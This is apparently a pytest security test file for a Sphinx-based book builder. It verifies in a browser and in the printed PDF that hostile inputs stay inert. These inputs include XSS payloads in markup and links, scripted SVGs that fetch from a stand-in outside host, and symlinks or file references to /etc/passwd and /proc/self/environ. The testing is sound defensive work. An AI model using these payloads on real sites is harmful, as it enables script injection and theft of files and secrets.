"""A book full of hostile content: opened page by page in a real browser, nothing runs;
printed as a PDF, nothing from outside the tree is in it.

The fixture book is ``test-checks`` with every script payload the hostile-input
table knows, in every place a payload can hide: raw HTML in text, in glossary and
record bodies, event handlers, ``javascript:`` and ``data:`` links, markup in
names, roles, titles, ids, glossary terms, the timeline's graphic and the source
itself. It is built (the build reports each payload; this test does not need it
clean) and every page is loaded in Debian's Chromium with a dialog handler. Any
``alert`` that runs fails the test.
"""

from __future__ import annotations

import http.server
import os
import subprocess
import threading
from pathlib import Path

import pytest
from pypdf import PdfReader

from sphinx_briefing.booktests import need_tool

from .harness import SVG_OPEN, Edit, append, inserted, replace, serve, symlink, write

pytestmark = [pytest.mark.browser]

SCRIPT = "<script>alert('script')</script>"
PAYLOADS: list[Edit] = [
    inserted(SCRIPT),
    inserted("<img src=x onerror=\"alert('img')\">"),
    inserted('Text <b onmouseover="alert(\'hover\')" style="display:block;height:9999px">x</b> here.'),
    inserted("```{raw} html\n" + SCRIPT + "\n```"),
    inserted("A [link](javascript:alert('link')) and [data](data:text/html,<script>alert('data')</script>)."),
    inserted('<a href="javascript:alert(\'anchor\')" id="bad">click</a>'),
    inserted("![<img src=x onerror=alert('alt')>](missing.png)"),
    replace("   A newspaper.", "   A newspaper " + SCRIPT + "."),
    replace("She says trust", SCRIPT + "\n\nShe says trust"),
    replace(":name: Ann Lee", ":name: Ann <img src=x onerror=alert('name')> Lee"),
    replace(":role: Professor", ":role: \"><svg onload=alert('role')>"),
    replace(
        ":title: The mayor opens 12 new schools",
        ":title: The mayor opens 12 new schools </desc><script>alert('svg')</script>",
    ),
    replace("```{key-figure} budget", "```{key-figure} \"><svg/onload=alert('id')>"),
    replace("Gazette\n   A newspaper", "Gazette <script>alert('term')</script>\n   A newspaper"),
    replace("# Sample checks", "# Sample <script>alert('title')</script> checks"),
    replace("[A link to another story]", "[A link <script>alert('source')</script>]", "source/sample.md"),
    append("```{whos-who}\n```\n\n```{timeline}\n```\n\n```{key-figures}\n```\n\n```{coverage-report}\n```"),
]


#: What a page would need to run a payload later (on hover, on click): handlers, script
#: links and scripts of the payloads. Found ones are listed by the browser itself.
ARMED = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) found.push(`${el.tagName} ${attr.name}`);
      if (['href', 'src', 'action', 'formaction'].includes(attr.name) && /^\\s*(javascript|data|vbscript):/i.test(attr.value)) found.push(`${el.tagName} ${attr.name}=${attr.value}`);
    }
  }
  for (const script of document.scripts) if (/alert/.test(script.textContent)) found.push('script: ' + script.textContent.slice(0, 40));
  return found;
}"""


def hostile_site(make_app, project, payloads: list[Edit]):
    """The ``test-checks`` book with the payloads, built as HTML (its warnings are expected)."""
    srcdir = project("checks")
    for payload in payloads:
        payload(srcdir)
    app = make_app("html", srcdir=srcdir)
    app.build()
    return app


def test_no_page_of_a_hostile_book_runs_a_script(make_app, project, browser) -> None:
    app = hostile_site(make_app, project, PAYLOADS)
    assert "briefing.raw-markup" in app.warning.getvalue(), "the build reports the payloads"
    dialogs: list[str] = []
    with serve(Path(app.outdir)) as site:
        context = browser.new_context()
        tab = context.new_page()
        tab.on("dialog", lambda dialog: (dialogs.append(f"{tab.url}: {dialog.message}"), dialog.dismiss()))
        pages = sorted(str(p.relative_to(app.outdir)) for p in Path(app.outdir).rglob("*.html"))
        armed: list[str] = []
        for name in pages:
            tab.goto(site + name, wait_until="load")
            armed += [f"{name}: {found}" for found in tab.evaluate(ARMED)]
        context.close()
    assert len(pages) >= 3
    assert dialogs == []
    assert armed == [], "no handler, script link or payload script may reach a page, even unfired"


# -- every image clicked, every file opened: nothing runs, nothing is fetched from outside ----------


#: A script that shows itself twice: a dialog, and a request to an address outside the site.
def _runs(name: str) -> str:
    return f"alert('{name}'); fetch('http://outside.invalid/{name}')"


SAFE_SVG = SVG_OPEN + '<rect width="10" height="10" fill="#1f3a60"/></svg>'
FILE_PAYLOADS: list[Edit] = [
    write("chart.svg", SAFE_SVG),
    inserted("```{figure} chart.svg\n:scale: 50%\n:alt: A chart\n\nA chart.\n```"),
    write("mark.svg", SAFE_SVG),
    inserted("![A mark](mark.svg)"),
    write("evil.svg", SVG_OPEN + f"<script>{_runs('svg-script')}</script></svg>"),
    inserted("```{image} evil.svg\n:scale: 50%\n:alt: evil\n```"),
    write("handler.svg", SVG_OPEN + f'<rect width="10" height="10" onload="{_runs("svg-onload")}"/></svg>'),
    inserted("![handler](handler.svg)"),
    write(
        "foreign.svg",
        SVG_OPEN
        + '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://outside.invalid/frame"/></foreignObject></svg>',
    ),
    inserted("![foreign](foreign.svg)"),
    write("fetching.svg", SVG_OPEN + '<image href="http://outside.invalid/pixel.png" width="9" height="9"/></svg>'),
    inserted("![fetching](fetching.svg)"),
    symlink("leak.txt", "/etc/passwd"),
    inserted("![leak](leak.*)"),
    inserted("````{grid} 1\n```{grid-item-card} Card\n:img-top: leak.*\n\nText.\n```\n````"),
    write("page.html", f"<script>{_runs('html-download')}</script>"),
    inserted("Get {download}`the page <page.html>`."),
    write(
        "page.xhtml", f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{_runs("xhtml-download")}</script></html>'
    ),
    inserted("Get {download}`the other page <page.xhtml>`."),
    write("tool.js", _runs("js-download")),
    inserted("Get {download}`the tool <tool.js>`."),
    write("evil-download.svg", SVG_OPEN + f"<script>{_runs('svg-download')}</script></svg>"),
    inserted("Get {download}`the drawing <evil-download.svg>`."),
    write(".git/config", "[remote]\n"),
    inserted("Get {download}`the config <.git/config>`."),
    write("notes.txt", f"<script>{_runs('txt-download')}</script>"),
    inserted("Get {download}`the notes <notes.txt>`."),
    write("data.json", '{"a": "<script>alert(1)</script>"}'),
    inserted("Get {download}`the data <data.json>`."),
    write("data.csv", "a,b\n1,2\n"),
    inserted("Get {download}`the table <data.csv>`."),
    write("safe.svg", SAFE_SVG),
    inserted("Get {download}`a safe drawing <safe.svg>`."),
]
#: Every file a page makes the reader open: pictures (and the links around them) and downloads.
FILES_OF_PAGE = """() => [
  ...[...document.images].map(img => img.src),
  ...[...document.querySelectorAll('a.image-reference, a.download, a[download]')].map(a => a.href),
]"""


def open_every_file(tab, site: str, pages: list[str]) -> tuple[int, set[str]]:
    """On every page, click every image, then open every picture and download as a document
    of its own, as a reader opening it in a new tab would; the images clicked, the files opened."""
    from playwright.sync_api import Error

    clicked, files = 0, set()
    for name in pages:
        tab.goto(site + name, wait_until="load")
        for index in range(tab.locator("img").count()):
            image = tab.locator("img").nth(index)
            if image.evaluate("img => !img.closest('a[href]')"):
                image.evaluate("img => img.click()")
            else:  # the click opens the picture's link: wait for it, then come back
                with tab.expect_navigation(wait_until="load"):
                    image.evaluate("img => setTimeout(() => img.click())")
                tab.goto(site + name, wait_until="load")
            clicked += 1
        files |= {url for url in tab.evaluate(FILES_OF_PAGE) if url.startswith(site)}
    for url in sorted(files):
        try:
            tab.goto(url, wait_until="load")
        except Error as error:  # a file the browser downloads instead of showing runs nothing
            assert "Download is starting" in str(error), error
    return clicked, files


def inert(browser, outdir: Path) -> tuple[int, set[str], list[str]]:
    """Serve a built site, open every page, image and file; what ran or went outside."""
    ran: list[str] = []
    with serve(outdir) as site:
        context = browser.new_context(accept_downloads=True)
        tab = context.new_page()
        tab.on("dialog", lambda dialog: (ran.append(f"dialog {dialog.message} on {tab.url}"), dialog.dismiss()))
        context.on(
            "request",
            lambda request: (
                None
                if request.url.startswith((site, "data:", "about:", "blob:"))
                else ran.append(f"request {request.url}")
            ),
        )
        pages = sorted(str(p.relative_to(outdir)) for p in outdir.rglob("*.html") if "_downloads" not in p.parts)
        clicked, files = open_every_file(tab, site, pages)
        context.close()
    return clicked, {url.removeprefix(site) for url in files}, ran


def test_every_image_and_download_of_a_hostile_book_opens_inert(make_app, project, browser) -> None:
    app = hostile_site(make_app, project, FILE_PAYLOADS)
    clicked, files, ran = inert(browser, Path(app.outdir))
    assert ran == []
    assert clicked >= 2, "the safe pictures were clicked"
    opened = {Path(url).name for url in files}
    assert {"chart.svg", "mark.svg", "data.csv", "data.json", "notes.txt", "safe.svg"} <= opened, opened
    assert not opened & {
        "evil.svg",
        "handler.svg",
        "foreign.svg",
        "fetching.svg",
        "leak.txt",
        "page.html",
        "page.xhtml",
        "tool.js",
        "evil-download.svg",
        "config",
    }
    assert not any("passwd" in path.name or path.name == "config" for path in Path(app.outdir).rglob("*"))


def test_the_file_check_sees_a_script_run_and_an_outside_request(make_app, project, browser) -> None:
    """The check above can fail: a scripted SVG planted in the site, and opened, is caught."""
    app = hostile_site(make_app, project, FILE_PAYLOADS[:4])
    planted = next(Path(app.outdir, "_images").glob("chart*.svg"))
    planted.write_text(SVG_OPEN + f"<script>{_runs('planted')}</script></svg>", encoding="utf-8")
    _clicked, _files, ran = inert(browser, Path(app.outdir))
    assert any("dialog planted" in found for found in ran) and any(
        "outside.invalid/planted" in found for found in ran
    ), ran


# -- the printed book holds nothing from outside the tree ------------------------------------------


SECRET = "bb-secret-7d1c9e"


class _Counting(http.server.BaseHTTPRequestHandler):
    """A server on loopback that serves a secret and counts who asks for it."""

    hits: list[str] = []

    def do_GET(self) -> None:  # the http.server hook
        type(self).hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()
        self.wfile.write(SECRET.encode())

    def log_message(self, *args: object) -> None:
        """Keep test output readable."""


def pdf_contents(pdf: Path, tmp_path: Path) -> tuple[str, bytes]:
    """What a PDF says and holds: its text as a reader extracts it (Typst writes glyph ids
    into compressed streams, so raw bytes never show the text), and every object with its
    streams decompressed (metadata, images, attachments)."""
    text = " ".join(page.extract_text() for page in PdfReader(pdf).pages)
    qpdf = need_tool("qpdf", install="apt-get install qpdf")
    plain = tmp_path / "plain.pdf"
    subprocess.run([qpdf, "--qdf", "--object-streams=disable", "--decode-level=all", str(pdf), str(plain)], check=True)
    return text, plain.read_bytes()


def test_the_pdf_embeds_no_local_file_no_url_and_no_environment(make_app, project, tmp_path: Path) -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/secret.png"
    srcdir = project("checks")
    (srcdir / "leak.png").symlink_to("/etc/passwd")
    for payload in (
        inserted('<link rel="attachment" href="file:///etc/passwd">'),
        inserted(f'<a rel="attachment" href="{url}">x</a>'),
        inserted("![passwd](file:///etc/passwd) ![environ](/proc/self/environ) ![leak](leak.png)"),
        inserted(f"![remote]({url})"),
        inserted("[environ](file:///proc/self/environ)"),
    ):
        payload(srcdir)
    os.environ["BB_TEST_SECRET"] = SECRET
    try:
        app = make_app("briefingpdf", srcdir=srcdir)
        app.build()
    finally:
        del os.environ["BB_TEST_SECRET"]
        server.shutdown()
    assert _Counting.hits == [], "the build fetched a URL"
    text, streams = pdf_contents(Path(app.outdir, "briefing.pdf"), tmp_path)
    assert "TESTVILLE" in text, "the text was extracted"
    assert "root:x:0" not in text and SECRET not in text
    assert b"root:x:0" not in streams and SECRET.encode() not in streams
    assert b"/EmbeddedFile" not in streams and b"/FileAttachment" not in streams
    written = {path.resolve() for path in Path(app.outdir).rglob("*") if path.is_file()}
    assert all(path.is_relative_to(Path(app.outdir).resolve()) for path in written)
